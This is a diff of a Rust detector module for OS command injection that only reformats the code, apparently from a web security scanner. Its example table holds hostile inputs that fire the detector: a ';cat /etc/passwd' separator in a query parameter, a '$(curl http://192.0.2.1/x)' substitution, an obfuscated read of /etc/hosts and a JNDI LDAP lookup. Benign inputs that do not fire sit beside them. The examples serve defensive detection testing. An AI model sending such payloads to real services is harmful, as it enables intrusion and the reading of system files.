@@ -1,13 +1,11 @@
 //! OS command injection: a value that leaves its place in a shell command.
 
-use bartizan_model::{
-    Attack, Confidence, Cwe, Input, ItemMeta, Owasp, Severity, Stage, Status,
-};
+use bartizan_model::{Attack, Confidence, Cwe, Input, ItemMeta, Owasp, Severity, Stage, Status};
 
 use crate::detectors::injection::{
-    Found, example, shell,
+    Found, example,
     prefilter::{Family, Scan, Suspect},
-    report,
+    report, shell,
 };
 use crate::{
     detectors::{DetectorExample, DetectorItem, Hit, Key, Lane},
@@ -44,14 +42,64 @@ fn run(facts: &Facts<'_>, scan: &Scan<'_>, out: &mut Vec<Hit>) {
 }
 
 const EXAMPLES: &[DetectorExample] = &[
-    DetectorExample { name: "Separator in a query parameter", fires: true, exchanges: || vec![example("/v1/ping?host=127.0.0.1%3Bcat%20/etc/passwd", "")] },
-    DetectorExample { name: "Substitution in JSON", fires: true, exchanges: || vec![example("/v1/convert", "{\"file\": \"a.png$(curl http://192.0.2.1/x)\"}")] },
-    DetectorExample { name: "Hidden white space and quotes", fires: true, exchanges: || vec![example("/v1/convert", "{\"file\": \"a.png|c'a't${IFS}/etc/hosts\"}")] },
-    DetectorExample { name: "JNDI look-up", fires: true, exchanges: || vec![example("/v1/items", "{\"name\": \"${${lower:j}ndi:ldap://192.0.2.1/a}\"}")] },
-    DetectorExample { name: "Build steps", fires: false, exchanges: || vec![example("/v1/pipelines", "{\"script\": \"npm ci && npm test && ls -la dist\"}")] },
-    DetectorExample { name: "Prose", fires: false, exchanges: || vec![example("/v1/posts", "{\"text\": \"First wash; then cat food & toys | sort them by id; who knows.\"}")] },
-    DetectorExample { name: "Code in backticks in prose", fires: false, exchanges: || vec![example("/v1/posts", "{\"text\": \"Please run `ls -la` in the folder and send the result.\"}")] },
-    DetectorExample { name: "Query string inside a value", fires: false, exchanges: || vec![example("/v1/links", "{\"url\": \"https://example.com/?a=1&id=2&sort=name\"}")] },
+    DetectorExample {
+        name: "Separator in a query parameter",
+        fires: true,
+        exchanges: || vec![example("/v1/ping?host=127.0.0.1%3Bcat%20/etc/passwd", "")],
+    },
+    DetectorExample {
+        name: "Substitution in JSON",
+        fires: true,
+        exchanges: || {
+            vec![example("/v1/convert", "{\"file\": \"a.png$(curl http://192.0.2.1/x)\"}")]
+        },
+    },
+    DetectorExample {
+        name: "Hidden white space and quotes",
+        fires: true,
+        exchanges: || vec![example("/v1/convert", "{\"file\": \"a.png|c'a't${IFS}/etc/hosts\"}")],
+    },
+    DetectorExample {
+        name: "JNDI look-up",
+        fires: true,
+        exchanges: || {
+            vec![example("/v1/items", "{\"name\": \"${${lower:j}ndi:ldap://192.0.2.1/a}\"}")]
+        },
+    },
+    DetectorExample {
+        name: "Build steps",
+        fires: false,
+        exchanges: || {
+            vec![example("/v1/pipelines", "{\"script\": \"npm ci && npm test && ls -la dist\"}")]
+        },
+    },
+    DetectorExample {
+        name: "Prose",
+        fires: false,
+        exchanges: || {
+            vec![example(
+                "/v1/posts",
+                "{\"text\": \"First wash; then cat food & toys | sort them by id; who knows.\"}",
+            )]
+        },
+    },
+    DetectorExample {
+        name: "Code in backticks in prose",
+        fires: false,
+        exchanges: || {
+            vec![example(
+                "/v1/posts",
+                "{\"text\": \"Please run `ls -la` in the folder and send the result.\"}",
+            )]
+        },
+    },
+    DetectorExample {
+        name: "Query string inside a value",
+        fires: false,
+        exchanges: || {
+            vec![example("/v1/links", "{\"url\": \"https://example.com/?a=1&id=2&sort=name\"}")]
+        },
+    },
 ];
 
 fn judge(suspect: &Suspect<'_>) -> Option<Found> {
